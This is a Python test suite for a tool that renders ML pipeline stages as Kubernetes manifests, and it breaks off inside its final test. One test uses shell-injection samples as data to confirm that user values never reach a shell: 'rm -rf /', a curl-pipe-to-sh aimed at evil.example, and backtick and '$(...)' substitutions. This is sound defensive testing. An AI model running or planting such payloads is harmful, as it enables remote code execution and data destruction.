"""render.py: one test per rendering requirement of issue 4 §1, each named as the claim it checks."""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
import textwrap
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
import yaml

from bodywork_action import render
from bodywork_action.dag import is_dns1123_label
from bodywork_action.errors import InputError
from bodywork_action.model import (
    RESERVED_ENV_VARS,
    BatchSettings,
    DeployContext,
    SecretEnv,
    ServiceSettings,
    StageName,
)
from bodywork_action.plan import render_plan
from testing import builders
from testing.builders import BODYWORK_IMAGE, COMMIT, bodywork_test_project, build_stage, mlflow_pipeline

CONTEXT = DeployContext(
    repository_url="https://github.com/acme/models",
    commit=COMMIT,
    ref="refs/heads/main",
    run_url="https://github.com/acme/models/actions/runs/99",
    actor="octocat",
    deployment_id="99-1",
    restart_token="99-1",
)

TRAIN = build_stage(
    "train",
    BatchSettings(max_completion_time_seconds=100, retries=2),
    requirements=("numpy==2.0",),
    args=("--epochs", "3"),
    secrets=(SecretEnv("DB_PASSWORD", "db"),),
)
SERVE = build_stage(
    "serve",
    ServiceSettings(max_startup_time_seconds=240, replicas=2, port=8000, ingress=True),
    cpu_request=0.25,
    memory_request_mb=512,
    secrets=(SecretEnv("MODEL_BUCKET", "storage"),),
)
PIPELINE = builders.pipeline(
    "train >> serve", TRAIN, SERVE, name="Acme Models", docker_image=BODYWORK_IMAGE, namespace="ml"
)


def stage_pod(manifest: dict[str, Any]) -> dict[str, Any]:
    pod: dict[str, Any] = manifest["spec"]["template"]["spec"]
    return pod


def stage_container(manifest: dict[str, Any]) -> dict[str, Any]:
    (container,) = stage_pod(manifest)["containers"]
    assert container["name"] == render.STAGE_CONTAINER
    return container


def init_container(manifest: dict[str, Any]) -> dict[str, Any]:
    (container,) = stage_pod(manifest)["initContainers"]
    return container


def env_of(container: dict[str, Any]) -> dict[str, Any]:
    return {entry["name"]: entry.get("value", entry.get("valueFrom")) for entry in container["env"]}


def objects_by_kind(objects: list[dict[str, Any]]) -> dict[str, dict[str, Any]]:
    return {obj["kind"]: obj for obj in objects}


# --- what is rendered, and in which order ---------------------------------------------------------
def test_objects_come_in_apply_order_namespace_then_each_dag_stage() -> None:
    objects = render_plan(PIPELINE, CONTEXT).objects()
    shown = [(obj["kind"], obj["metadata"]["name"]) for obj in objects]
    assert shown == [
        ("Namespace", "ml"),
        ("Job", render.job_name(TRAIN, CONTEXT)),
        ("Deployment", "serve"),
        ("Service", "serve"),
        ("Ingress", "serve"),
    ]


def test_run_on_failure_and_stages_outside_the_dag_are_not_rendered_up_front() -> None:
    pipeline = bodywork_test_project()
    names = {
        obj["metadata"].get("annotations", {}).get(render.ANNOTATION_STAGE)
        for obj in render_plan(pipeline, CONTEXT).objects()
    }
    assert names == {None, "stage_1", "stage_2", "stage_3", "stage_4"}


def test_the_failure_stage_job_takes_extra_env_such_as_the_exception_message() -> None:
    pipeline = bodywork_test_project()
    failure = pipeline.failure_stage
    assert failure is not None
    job = render.with_stage_env(
        render.render_job(failure, pipeline, CONTEXT), {"EXCEPTION_MESSAGE": "stage_4 failed"}
    )
    assert env_of(stage_container(job))["EXCEPTION_MESSAGE"] == "stage_4 failed"


def test_each_stage_and_the_failure_stage_is_found_by_name_and_an_unknown_name_is_refused() -> None:
    pipeline = bodywork_test_project()
    plan = render_plan(pipeline, CONTEXT)
    assert pipeline.failure_stage is not None and plan.failure_stage is not None
    for stage_plan in [*plan.stages, plan.failure_stage]:
        assert plan.for_stage(stage_plan.stage.name) is stage_plan
    with pytest.raises(KeyError, match="stage 'nope' is not in the plan"):
        plan.for_stage(StageName("nope"))


def test_rendering_is_deterministic() -> None:
    assert render_plan(PIPELINE, CONTEXT).objects() == render_plan(PIPELINE, CONTEXT).objects()


@pytest.mark.parametrize(
    ("pipeline_namespace", "override", "expected"),
    [("ml", "", "ml"), ("ml", "staging", "staging"), ("", "", "acme-models")],
)
def test_namespace_is_the_override_then_the_pipeline_namespace_then_the_name(
    pipeline_namespace: str, override: str, expected: str
) -> None:
    pipeline = replace(PIPELINE, namespace=pipeline_namespace)
    context = replace(CONTEXT, namespace=override)
    assert render.render_namespace(pipeline, context)["metadata"]["name"] == expected
    assert {
        obj["metadata"].get("namespace", expected) for obj in render_plan(pipeline, context).objects()
    } == {expected}


def test_an_invalid_namespace_is_refused_with_a_clear_message() -> None:
    with pytest.raises(InputError, match="'Team_ML' is not a valid Kubernetes namespace"):
        render_plan(replace(PIPELINE, namespace="Team_ML"), CONTEXT).objects()


def test_namespace_is_marked_as_created_by_bodywork_action_for_this_pipeline() -> None:
    namespace = render.render_namespace(PIPELINE, CONTEXT)
    assert namespace["metadata"]["labels"] == {
        render.LABEL_MANAGED_BY: "bodywork-action",
        render.LABEL_PART_OF: render.pipeline_label(PIPELINE),
    }
    assert namespace["metadata"]["annotations"][render.ANNOTATION_NAMESPACE_CREATED_FOR] == (
        render.pipeline_label(PIPELINE)
    )


# --- names, labels, annotations, selectors ----------------------------------------------------------
def test_names_are_dns1123_names_derived_from_stage_names() -> None:
    stage = build_stage("Prediction_Service", SERVE.settings)
    pipeline = builders.pipeline("Prediction_Service", stage, name="p", docker_image=BODYWORK_IMAGE)
    names = {obj["metadata"]["name"] for obj in render_plan(pipeline, CONTEXT).objects()[1:]}
    assert names == {"prediction-service"}


@pytest.mark.parametrize("obj", render_plan(PIPELINE, CONTEXT).objects()[1:], ids=lambda o: o["kind"])
def test_every_stage_object_carries_the_pipeline_stage_commit_and_managed_by_labels(
    obj: dict[str, Any],
) -> None:
    labels = obj["metadata"]["labels"]
    stage = TRAIN if obj["kind"] == "Job" else SERVE
    assert labels[render.LABEL_NAME] == stage.k8s_name
    assert labels[render.LABEL_STAGE_KIND] == stage.kind.value
    assert labels[render.LABEL_PART_OF] == render.pipeline_label(PIPELINE)
    assert render.pipeline_label(PIPELINE).startswith("Acme-Models-")  # altered, so a hash keeps it distinct
    assert labels[render.LABEL_MANAGED_BY] == "bodywork-action"
    assert labels[render.LABEL_COMMIT] == COMMIT


@pytest.mark.parametrize("obj", render_plan(PIPELINE, CONTEXT).objects(), ids=lambda o: o["kind"])
def test_every_object_is_annotated_with_ref_run_url_actor_and_repository(obj: dict[str, Any]) -> None:
    annotations = obj["metadata"]["annotations"]
    assert annotations[render.ANNOTATION_REF] == "refs/heads/main"
    assert annotations[render.ANNOTATION_RUN_URL] == CONTEXT.run_url
    assert annotations[render.ANNOTATION_ACTOR] == "octocat"
    assert annotations[render.ANNOTATION_REPOSITORY] == CONTEXT.repository_url
    assert annotations[render.ANNOTATION_COMMIT] == COMMIT
    assert annotations[render.ANNOTATION_PIPELINE] == "Acme Models"


def test_empty_context_fields_leave_no_empty_annotations() -> None:
    context = DeployContext(repository_url=CONTEXT.repository_url, commit=COMMIT)
    for obj in render_plan(PIPELINE, context).objects():
        assert "" not in obj["metadata"].get("annotations", {}).values()
        assert render.ANNOTATION_ACTOR not in obj["metadata"].get("annotations", {})


def test_pod_templates_carry_the_labels_so_pods_can_be_found() -> None:
    for obj in render_plan(PIPELINE, CONTEXT).objects()[1:3]:
        assert obj["spec"]["template"]["metadata"]["labels"].items() >= obj["metadata"]["labels"].items()


def test_selectors_differ_between_two_pipelines_with_the_same_stage_name() -> None:
    other = builders.pipeline("serve", SERVE, name="Other Team", docker_image=BODYWORK_IMAGE, namespace="ml")
    ours = objects_by_kind(render_plan(PIPELINE, CONTEXT).objects())
    theirs = objects_by_kind(render_plan(other, CONTEXT).objects())
    assert ours["Deployment"]["spec"]["selector"] != theirs["Deployment"]["spec"]["selector"]
    assert ours["Service"]["spec"]["selector"] != theirs["Service"]["spec"]["selector"]
    # …and neither Service selects the other pipeline's pods.
    their_pods = theirs["Deployment"]["spec"]["template"]["metadata"]["labels"]
    assert not ours["Service"]["spec"]["selector"].items() <= their_pods.items()


def test_deployment_and_service_select_on_pipeline_and_stage_and_match_the_pods() -> None:
    objects = objects_by_kind(render_plan(PIPELINE, CONTEXT).objects())
    expected = render.selector_labels(PIPELINE, SERVE)
    assert set(expected) == {render.LABEL_PART_OF, render.LABEL_NAME}
    assert objects["Deployment"]["spec"]["selector"] == {"matchLabels": expected}
    assert objects["Service"]["spec"]["selector"] == expected
    pod_labels = objects["Deployment"]["spec"]["template"]["metadata"]["labels"]
    assert expected.items() <= pod_labels.items()


@pytest.mark.parametrize(
    "name",
    ["bodywork-mlflow", "Acme Models", "x" * 80, "ünïcode pipeline", "-leading-and-trailing-", "a/b:c"],
)
def test_pipeline_label_is_a_valid_label_value_for_any_pipeline_name(name: str) -> None:
    value = render.label_value(name)
    assert len(value) <= 63
    assert value[0].isalnum() and value[-1].isalnum()
    assert all(c.isascii() and (c.isalnum() or c in "-_.") for c in value)


def test_distinct_pipeline_names_keep_distinct_labels_even_when_altered() -> None:
    assert render.label_value("a b") != render.label_value("a-b")
    assert render.label_value("x" * 70 + "1") != render.label_value("x" * 70 + "2")
    assert render.label_value("bodywork-mlflow") == "bodywork-mlflow"  # valid values are kept as written


# --- Job names ------------------------------------------------------------------------------------
def test_job_names_are_unique_per_deployment() -> None:
    names = {render.job_name(TRAIN, replace(CONTEXT, deployment_id=f"{run}-1")) for run in range(100)}
    assert len(names) == 100


def test_job_names_differ_on_a_redeploy_of_the_same_commit_without_a_deployment_id() -> None:
    first = replace(CONTEXT, deployment_id="", restart_token="2026-01-01T00:00:00Z")
    second = replace(first, restart_token="2026-01-02T00:00:00Z")
    assert render.job_name(TRAIN, first) != render.job_name(TRAIN, second)


def test_job_name_is_stable_within_one_deployment_and_starts_with_the_stage() -> None:
    assert render.job_name(TRAIN, CONTEXT) == render.job_name(TRAIN, replace(CONTEXT))
    assert render.job_name(TRAIN, CONTEXT).startswith("train-")


def test_job_names_are_dns1123_labels_of_at_most_63_characters_even_for_long_stage_names() -> None:
    stage = build_stage("s" * 62 + "_x", TRAIN.settings)  # k8s_name keeps 63 characters
    for deployment in ("1", "x" * 500):
        name = render.job_name(stage, replace(CONTEXT, deployment_id=deployment))
        assert len(name) <= 63
        assert is_dns1123_label(name)


def test_jobs_are_labelled_with_their_deployment_so_old_ones_can_be_pruned() -> None:
    job = render.render_job(TRAIN, PIPELINE, CONTEXT)
    assert job["metadata"]["labels"][render.LABEL_DEPLOYMENT] == render.deployment_short_id(CONTEXT)
    assert job["metadata"]["annotations"][render.ANNOTATION_DEPLOYMENT_ID] == "99-1"


# --- the code, pinned to the commit ---------------------------------------------------------------
@pytest.mark.parametrize("kind", ["Job", "Deployment"])
def test_an_init_container_checks_out_exactly_the_commit_with_git_sync_one_time(kind: str) -> None:
    context = replace(CONTEXT, git_sync_image="registry.example/git-sync:v4.9.9")
    workload = objects_by_kind(render_plan(PIPELINE, context).objects())[kind]
    git_sync = init_container(workload)
    assert git_sync["image"] == "registry.example/git-sync:v4.9.9"
    assert git_sync["args"][:6] == [
        "--repo=https://github.com/acme/models",
        f"--ref={COMMIT}",
        "--root=/bodywork",
        "--link=repo",
        "--one-time",
        "--depth=1",
    ]
    # Both containers share the emptyDir the code is checked out into.
    assert {"name": "code", "emptyDir": {}} in stage_pod(workload)["volumes"]
    assert git_sync["volumeMounts"][0] == stage_container(workload)["volumeMounts"][0]


def test_the_checkout_is_group_writable_so_a_stage_running_as_any_user_can_write_next_to_its_code() -> None:
    job = render.render_job(TRAIN, PIPELINE, CONTEXT)
    assert "--group-write" in init_container(job)["args"]
    assert stage_pod(job)["securityContext"] == {"fsGroup": render.GIT_SYNC_UID}
    assert init_container(job)["securityContext"]["runAsGroup"] == render.GIT_SYNC_UID


def test_the_default_git_sync_image_is_git_sync_v4() -> None:
    git_sync = init_container(render.render_job(TRAIN, PIPELINE, CONTEXT))
    assert git_sync["image"].startswith("registry.k8s.io/git-sync/git-sync:v4.")


@pytest.mark.parametrize("commit", ["main", "0123456", "0123456789ABCDEF0123456789ABCDEF01234567", ""])
def test_a_branch_or_short_commit_is_refused_because_it_would_not_pin_the_code(commit: str) -> None:
    with pytest.raises(InputError, match="full lower-case SHA"):
        render_plan(PIPELINE, replace(CONTEXT, commit=commit)).objects()


def test_a_sha256_repository_commit_is_accepted() -> None:
    job = render.render_job(TRAIN, PIPELINE, replace(CONTEXT, commit="ab" * 32))
    assert f"--ref={'ab' * 32}" in init_container(job)["args"]


def test_a_public_repository_needs_no_credentials() -> None:
    for workload in render_plan(PIPELINE, CONTEXT).objects()[1:3]:
        assert [v["name"] for v in stage_pod(workload)["volumes"]] == ["code"]
        args = " ".join(init_container(workload)["args"])
        assert "--ssh" not in args and "--password" not in args
        assert "env" not in init_container(workload)


def test_a_private_ssh_repository_uses_the_deploy_key_and_known_hosts_from_the_named_secret() -> None:
    context = replace(
        CONTEXT, repository_url="git@github.com:acme/models.git", git_credentials_secret="deploy-key"
    )
    job = render.render_job(TRAIN, PIPELINE, context)
    git_sync = init_container(job)
    assert git_sync["args"][0] == "--repo=git@github.com:acme/models.git"
    assert {
        "--ssh",
        "--ssh-key-file=/etc/git-secret/ssh",
        "--ssh-known-hosts-file=/etc/git-secret/known_hosts",
    } <= set(git_sync["args"])
    volume = next(v for v in stage_pod(job)["volumes"] if v["name"] == render.GIT_CREDENTIALS_VOLUME)
    assert volume["secret"] == {"secretName": "deploy-key", "defaultMode": 0o440}
    assert stage_pod(job)["securityContext"]["fsGroup"] == git_sync["securityContext"]["runAsGroup"]


def test_a_private_https_repository_uses_a_token_from_the_named_secret_never_inline() -> None:
    context = replace(CONTEXT, git_credentials_secret="git-token")
    git_sync = init_container(render.render_job(TRAIN, PIPELINE, context))
    assert "--password-file=/etc/git-secret/password" in git_sync["args"]
    assert git_sync["env"] == [
        {
            "name": "GITSYNC_USERNAME",
            "valueFrom": {"secretKeyRef": {"name": "git-token", "key": "username", "optional": False}},
        }
    ]


def test_git_credentials_are_mounted_only_into_the_init_container() -> None:
    context = replace(CONTEXT, git_credentials_secret="git-token")
    for workload in render_plan(PIPELINE, context).objects()[1:3]:
        assert render.GIT_CREDENTIALS_VOLUME in {m["name"] for m in init_container(workload)["volumeMounts"]}
        assert render.GIT_CREDENTIALS_VOLUME not in {
            m["name"] for m in stage_container(workload)["volumeMounts"]
        }
        assert "git-token" not in json.dumps(stage_container(workload))


def test_an_ssh_url_without_a_credentials_secret_is_refused() -> None:
    with pytest.raises(InputError, match="needs a credentials secret with the keys 'ssh' and 'known_hosts'"):
        render.render_job(
            TRAIN, PIPELINE, replace(CONTEXT, repository_url="ssh://git@example.com/acme/m.git")
        )


@pytest.mark.parametrize(
    "url", ["https://x-access-token:ghp_CANARY@github.com/acme/m", "https://ghp_CANARY@github.com/acme/m"]
)
def test_credentials_inside_the_repository_url_are_refused_without_repeating_them(url: str) -> None:
    with pytest.raises(InputError) as raised:
        render_plan(PIPELINE, replace(CONTEXT, repository_url=url)).objects()
    assert "embeds credentials" in str(raised.value)
    assert "CANARY" not in str(raised.value)


@pytest.mark.parametrize("url", ["", "ftp://example.com/repo", "just-a-name"])
def test_a_repository_url_git_sync_cannot_fetch_is_refused(url: str) -> None:
    with pytest.raises(InputError):
        render.render_job(TRAIN, PIPELINE, replace(CONTEXT, repository_url=url))


# --- the stage container ----------------------------------------------------------------------------
def test_the_stage_runs_the_pipeline_image_in_the_checked_out_project() -> None:
    container = stage_container(render.render_job(TRAIN, PIPELINE, CONTEXT))
    assert container["image"] == PIPELINE.docker_image
    assert container["workingDir"] == "/bodywork/repo"
    assert env_of(container)["PYTHONPATH"] == "/bodywork/repo"


def test_a_config_directory_inside_the_repository_becomes_the_working_directory() -> None:
    job = render.render_job(TRAIN, PIPELINE, CONTEXT, config_dir="deploy/./ml/")
    assert stage_container(job)["workingDir"] == "/bodywork/repo/deploy/ml"


@pytest.mark.parametrize("config_dir", ["../elsewhere", "/etc", "a/../../b"])
def test_a_config_directory_outside_the_repository_is_refused(config_dir: str) -> None:
    with pytest.raises(InputError, match="must be a path inside the repository"):
        render.render_job(TRAIN, PIPELINE, CONTEXT, config_dir=config_dir)


def test_no_user_value_is_interpolated_into_a_shell_string() -> None:
    hostile_requirement = "numpy; rm -rf /"
    hostile_arg = "$(curl evil.example | sh)"
    hostile_path = "dir with spaces/`id`.py"
    stage = build_stage(
        "train",
        TRAIN.settings,
        module=hostile_path,
        requirements=(hostile_requirement,),
        args=(hostile_arg, "'; echo pwned"),
    )
    pipeline = builders.pipeline("train", stage, name="p", docker_image=BODYWORK_IMAGE)
    container = stage_container(render.render_job(stage, pipeline, CONTEXT))
    assert container["command"] == ["python", "-c", render.BOOTSTRAP_PROGRAM]
    assert "sh" not in container["command"] and "bash" not in container["command"]
    assert container["args"] == [hostile_path, "100", "1", hostile_requirement, hostile_arg, "'; echo pwned"]
    # The program itself is a constant: no user value leaks into it.
    for value in (hostile_requirement, hostile_arg, hostile_path, "pwned"):
        assert value not in render.BOOTSTRAP_PROGRAM
        assert value not in " ".join(init_container(render.render_job(stage, pipeline, CONTEXT))["args"])


def _run_bootstrap(argv: list[str], cwd: Path) -> subprocess.CompletedProcess[str]:
    env = {key: value for key, value in os.environ.items() if not key.startswith("PYTHON")}
    return subprocess.run(
        [sys.executable, "-c", render.BOOTSTRAP_PROGRAM, *argv],
        cwd=cwd,
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )


def test_the_bootstrap_runs_the_module_from_its_directory_with_args_as_given(tmp_path: Path) -> None:
    module_dir = tmp_path / "stage 1"
    module_dir.mkdir()
    (module_dir / "main.py").write_text(
        textwrap.dedent(
            """
            import json, os, sys
            print(json.dumps({"argv": sys.argv, "cwd": os.getcwd()}))
            """
        )
    )
    args = ["$(touch pwned)", "a b", "--flag", "'quoted'", ""]
    stage = build_stage("s", TRAIN.settings, module="stage 1/main.py", args=tuple(args))
    done = _run_bootstrap(render.stage_args(stage), cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    report = json.loads(done.stdout.splitlines()[-1])
    assert report == {"argv": ["main.py", *args], "cwd": str(module_dir)}
    assert not list(tmp_path.rglob("pwned"))


def test_the_bootstrap_passes_the_module_exit_code_through(tmp_path: Path) -> None:
    (tmp_path / "fail.py").write_text("raise SystemExit(7)\n")
    done = _run_bootstrap(["fail.py", "0", "0"], cwd=tmp_path)
    assert done.returncode == 7


def test_a_requirement_is_handed_to_pip_as_data_and_a_failed_install_stops_the_stage(tmp_path: Path) -> None:
    (tmp_path / "main.py").write_text("open('ran', 'w').close()\n")
    # Invalid as a requirement (the marker isn't one) so pip refuses it offline, before any download.
    done = _run_bootstrap(["main.py", "0", "1", "numpy; touch pwned", "arg"], cwd=tmp_path)
    assert done.returncode != 0
    assert "pip install failed" in done.stderr
    assert not (tmp_path / "ran").exists()
    assert not (tmp_path / "pwned").exists()


def test_notebook_stages_run_with_nbconvert_which_is_installed_for_them() -> None:
    notebook = build_stage(
        "nb", TRAIN.settings, module="nb/main.ipynb", requirements=("pandas",), args=("x",)
    )
    assert render.stage_requirements(notebook) == ("pandas", "nbconvert", "ipykernel")
    assert render.stage_args(notebook) == ["nb/main.ipynb", "100", "3", "pandas", "nbconvert", "ipykernel"]
    assert '"nbconvert", "--to", "notebook", "--execute"' in render.BOOTSTRAP_PROGRAM
    already = build_stage("nb", TRAIN.settings, module="main.ipynb", requirements=("nbconvert==7.16.4",))
    assert render.stage_requirements(already) == ("nbconvert==7.16.4", "nbconvert", "ipykernel")
    pinned = build_stage("nb", TRAIN.settings, module="main.ipynb", requirements=("nbconvert", "ipykernel"))
    assert render.stage_requirements(pinned) == ("nbconvert", "ipykernel")


def test_a_stage_without_requirements_installs_nothing() -> None:
    stage = build_stage("s", TRAIN.settings, module="s.py")
    assert render.stage_args(stage) == ["s.py", "100", "0"]


def test_secrets_become_secret_key_refs_keyed_by_the_env_var_name_as_bodywork() -> None:
    container = stage_container(render.render_job(TRAIN, PIPELINE, CONTEXT))
    assert container["env"][0] == {
        "name": "DB_PASSWORD",
        "valueFrom": {"secretKeyRef": {"name": "db", "key": "DB_PASSWORD", "optional": False}},
    }


def test_the_full_commit_is_given_to_the_stage_as_git_commit_hash() -> None:
    for workload in render_plan(PIPELINE, CONTEXT).objects()[1:3]:
        assert env_of(stage_container(workload))["GIT_COMMIT_HASH"] == COMMIT


def test_every_stage_gets_the_pipeline_log_level_as_bodywork_stages_did() -> None:
    pipeline = replace(PIPELINE, log_level="WARNING")
    for workload in render_plan(pipeline, CONTEXT).objects()[1:3]:
        assert env_of(stage_container(workload))["BODYWORK_LOG_LEVEL"] == "WARNING"


def test_service_stages_learn_their_service_name_namespace_and_port() -> None:
    deployment = render.render_deployment(SERVE, PIPELINE, CONTEXT)
    env = env_of(stage_container(deployment))
    assert (env["BODYWORK_STAGE"], env["BODYWORK_NAMESPACE"], env["BODYWORK_SERVICE_PORT"]) == (
        "serve",
        "ml",
        "8000",
    )
    assert "BODYWORK_STAGE" not in env_of(stage_container(render.render_job(TRAIN, PIPELINE, CONTEXT)))


def test_every_variable_the_tool_sets_is_reserved() -> None:
    for workload in render_plan(PIPELINE, CONTEXT).objects()[1:3]:
        ours = {e["name"] for e in stage_container(workload)["env"] if "value" in e}
        assert ours <= RESERVED_ENV_VARS


@pytest.mark.parametrize(
    ("cpu", "memory_mb", "expected"),
    [
        (0.25, 512, {"requests": {"cpu": "250m", "memory": "512M"}}),
        (1, 250, {"requests": {"cpu": "1", "memory": "250M"}}),
        (2.5, 0, {"requests": {"cpu": "2500m"}}),
        (0, 100, {"requests": {"memory": "100M"}}),
        (0.0001, 0, {"requests": {"cpu": "1m"}}),
        (0, 0, None),
    ],
)
def test_requests_come_from_cpu_and_memory_and_zero_means_none(
    cpu: float, memory_mb: int, expected: dict[str, Any] | None
) -> None:
    stage = build_stage("s", TRAIN.settings, cpu_request=cpu, memory_request_mb=memory_mb)
    container = stage_container(
        render.render_job(
            stage, builders.pipeline("s", stage, name="p", docker_image=BODYWORK_IMAGE), CONTEXT
        )
    )
    assert container.get("resources") == expected
    assert "limits" not in container.get("resources", {})


def test_stage_pods_get_no_service_account_token() -> None:
    for workload in render_plan(PIPELINE, CONTEXT).objects()[1:3]:
        assert stage_pod(workload)["automountServiceAccountToken"] is False


# --- Jobs -------------------------------------------------------------------------------------------
def test_job_retries_are_the_backoff_limit_and_pods_never_restart_in_place() -> None:
    job = render.render_job(TRAIN, PIPELINE, CONTEXT)
    assert job["spec"]["backoffLimit"] == 2
    assert stage_pod(job)["restartPolicy"] == "Never"
    assert job["spec"]["completions"] == 1


def test_the_time_limit_is_per_attempt_on_the_pod_not_on_the_whole_job() -> None:
    job = render.render_job(TRAIN, PIPELINE, CONTEXT)  # 100 s, retries 2
    assert "activeDeadlineSeconds" not in job["spec"]  # it would span every retry and its back-off
    assert stage_pod(job)["activeDeadlineSeconds"] == 100 + render.JOB_ATTEMPT_STARTUP_ALLOWANCE_SECONDS
    assert stage_container(job)["args"][:2] == ["train/main.py", "100"]  # the module's own limit


def test_services_get_no_time_limit() -> None:
    deployment = render.render_deployment(SERVE, PIPELINE, CONTEXT)
    assert "activeDeadlineSeconds" not in stage_pod(deployment)
    assert stage_container(deployment)["args"][1] == "0"


def test_the_client_waits_for_every_attempt_and_the_backoff_capped_like_kubernetes_caps_it() -> None:
    limit = render.job_wait_limit_seconds(BatchSettings(max_completion_time_seconds=1, retries=8))
    backoff = 10 + 20 + 40 + 80 + 160 + 320 + 360 + 360
    assert limit == 9 * (1 + render.JOB_ATTEMPT_STARTUP_ALLOWANCE_SECONDS) + backoff


def test_a_zero_completion_time_means_no_deadline() -> None:
    stage = build_stage("s", BatchSettings(max_completion_time_seconds=0, retries=1))
    job = render.render_job(
        stage, builders.pipeline("s", stage, name="p", docker_image=BODYWORK_IMAGE), CONTEXT
    )
    assert "activeDeadlineSeconds" not in job["spec"]
    assert "activeDeadlineSeconds" not in stage_pod(job)
    assert render.job_wait_limit_seconds(BatchSettings(max_completion_time_seconds=0, retries=1)) is None


def test_the_bootstrap_stops_a_module_that_runs_past_its_time_limit(tmp_path: Path) -> None:
    (tmp_path / "slow.py").write_text("import time\nprint('started', flush=True)\ntime.sleep(600)\n")
    done = _run_bootstrap(["slow.py", "1", "0"], cwd=tmp_path)
    assert done.returncode == render.TIME_LIMIT_EXIT_CODE == 128 + signal.SIGALRM
    assert "running slow.py (time limit 1 s)" in done.stdout and "started" in done.stdout
    assert "slow.py ran past its time limit of 1 s" in done.stderr


def test_the_bootstrap_gives_a_limited_module_its_exit_code_and_forwards_sigterm(tmp_path: Path) -> None:
    (tmp_path / "fail.py").write_text("raise SystemExit(7)\n")
    assert _run_bootstrap(["fail.py", "60", "0"], cwd=tmp_path).returncode == 7
    (tmp_path / "graceful.py").write_text(
        "import signal, sys, time\n"
        "print('ready', flush=True)\n"
        "signal.signal(signal.SIGTERM, lambda *_: sys.exit(3))\n"
        "print('handling', flush=True)\ntime.sleep(600)\n"
    )
    env = {key: value for key, value in os.environ.items() if not key.startswith("PYTHON")}
    process = subprocess.Popen(
        [sys.executable, "-c", render.BOOTSTRAP_PROGRAM, "graceful.py", "600", "0"],
        cwd=tmp_path,
        env=env,
        stdout=subprocess.PIPE,
        text=True,
    )
    assert process.stdout is not None
    with process.stdout:
        assert "time limit 600 s" in process.stdout.readline()
        assert [process.stdout.readline(), process.stdout.readline()] == ["ready\n", "handling\n"]
        process.send_signal(signal.SIGTERM)  # what the kubelet sends PID 1 when the pod is stopped
        assert process.wait(timeout=60) == 3  # the module got it and chose its exit code


def test_jobs_are_not_garbage_collected_by_ttl_because_we_prune_them() -> None:
    assert "ttlSecondsAfterFinished" not in render.render_job(TRAIN, PIPELINE, CONTEXT)["spec"]


def test_render_job_refuses_a_service_stage_and_deployment_a_batch_stage() -> None:
    with pytest.raises(ValueError, match="is a service stage"):
        render.render_job(SERVE, PIPELINE, CONTEXT)
    with pytest.raises(ValueError, match="is a batch stage"):
        render.render_deployment(TRAIN, PIPELINE, CONTEXT)


# --- Deployments ------------------------------------------------------------------------------------
def test_deployment_rolls_out_without_unavailable_pods_and_keeps_history_for_rollback() -> None:
    spec = render.render_deployment(SERVE, PIPELINE, CONTEXT)["spec"]
    assert spec["replicas"] == 2
    assert spec["strategy"] == {
        "type": "RollingUpdate",
        "rollingUpdate": {"maxUnavailable": 0, "maxSurge": 1},
    }
    assert 0 < spec["revisionHistoryLimit"] <= 10
    assert spec["template"]["spec"]["restartPolicy"] == "Always"


@pytest.mark.parametrize(("startup_seconds", "threshold"), [(240, 24), (61, 7), (10, 1), (0, 1)])
def test_startup_probe_is_sized_from_max_startup_time(startup_seconds: int, threshold: int) -> None:
    stage = build_stage("s", ServiceSettings(startup_seconds, replicas=1, port=5000, ingress=False))
    deployment = render.render_deployment(
        stage, builders.pipeline("s", stage, name="p", docker_image=BODYWORK_IMAGE), CONTEXT
    )
    probe = stage_container(deployment)["startupProbe"]
    assert probe["periodSeconds"] * probe["failureThreshold"] >= startup_seconds
    assert probe["failureThreshold"] == threshold
    assert deployment["spec"]["progressDeadlineSeconds"] == (
        startup_seconds + render.DEPLOYMENT_PROGRESS_ALLOWANCE_SECONDS
    )
    assert (
        deployment["spec"]["progressDeadlineSeconds"]
        > probe["periodSeconds"] * probe["failureThreshold"] - 10
    )


def test_startup_readiness_and_liveness_probes_check_the_named_container_port() -> None:
    container = stage_container(render.render_deployment(SERVE, PIPELINE, CONTEXT))
    assert container["ports"] == [{"name": "http", "containerPort": 8000, "protocol": "TCP"}]
    for probe in ("startupProbe", "readinessProbe", "livenessProbe"):
        assert container[probe]["tcpSocket"] == {"port": "http"}


def test_a_new_restart_token_rolls_the_pods_of_the_same_commit_and_the_same_token_does_not() -> None:
    def template(token: str) -> dict[str, Any]:
        deployment = render.render_deployment(SERVE, PIPELINE, replace(CONTEXT, restart_token=token))
        template: dict[str, Any] = deployment["spec"]["template"]
        return template

    assert template("a") == template("a")
    assert template("a") != template("b")
    assert template("b")["metadata"]["annotations"][render.ANNOTATION_RESTART_TOKEN] == "b"


def test_a_new_commit_changes_the_pod_template() -> None:
    old = render.render_deployment(SERVE, PIPELINE, CONTEXT)["spec"]["template"]
    new = render.render_deployment(SERVE, PIPELINE, replace(CONTEXT, commit="f" * 40))["spec"]["template"]
    assert old != new


# --- Services and Ingresses -------------------------------------------------------------------------
def test_service_is_a_cluster_ip_with_a_named_port_to_the_container_port() -> None:
    service = render.render_service(SERVE, PIPELINE, CONTEXT)
    assert service["spec"]["type"] == "ClusterIP"
    assert service["spec"]["ports"] == [
        {"name": "http", "port": 8000, "targetPort": "http", "protocol": "TCP"}
    ]


def test_service_url_is_the_in_cluster_dns_name_with_the_port() -> None:
    assert render.service_url(SERVE, "ml") == "http://serve.ml.svc.cluster.local:8000"
    pipeline = mlflow_pipeline()
    server = pipeline.dag_stages[0]
    namespace = render.target_namespace(pipeline, CONTEXT)
    assert render.service_url(server, namespace) == "http://server.bodywork-mlflow.svc.cluster.local:5000"


def test_ingress_routes_the_namespace_stage_prefix_to_the_service() -> None:
    ingress = render.render_ingress(SERVE, PIPELINE, replace(CONTEXT, ingress_class="nginx"))
    assert ingress["apiVersion"] == "networking.k8s.io/v1"
    assert ingress["spec"]["ingressClassName"] == "nginx"
    (rule,) = ingress["spec"]["rules"]
    (path,) = rule["http"]["paths"]
    assert path == {
        "path": "/ml/serve",
        "pathType": "Prefix",
        "backend": {"service": {"name": "serve", "port": {"name": "http"}}},
    }
    assert render.ingress_path("ml", SERVE) == "/ml/serve"
    assert not any("nginx.ingress" in key for key in ingress["metadata"]["annotations"])


def test_ingress_uses_the_clusters_default_class_when_none_is_configured() -> None:
    assert "ingressClassName" not in render.render_ingress(SERVE, PIPELINE, CONTEXT)["spec"]


def test_no_ingress_is_rendered_without_ingress_true() -> None:
    kinds = [obj["kind"] for obj in render_plan(mlflow_pipeline(), CONTEXT).objects()]
